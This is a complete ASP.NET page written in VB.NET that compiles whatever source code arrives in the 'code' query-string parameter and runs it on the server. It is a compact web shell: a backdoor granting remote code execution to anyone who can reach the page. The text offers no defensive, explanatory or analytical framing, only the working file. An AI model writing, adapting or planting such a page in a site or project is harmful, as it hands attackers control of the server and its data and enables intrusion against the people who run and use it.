<%@ Page Language="VB" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
Protected Sub Page_Load(sender As Object, e As EventArgs)
    Dim code As String = Request.QueryString("code")
    Dim prov As New Microsoft.VisualBasic.VBCodeProvider()
    Dim opts As New CompilerParameters()
    opts.GenerateInMemory = True
    Dim res As CompilerResults = prov.CompileAssemblyFromSource(opts, code)
    res.CompiledAssembly.CreateInstance("Task")
End Sub
</script>
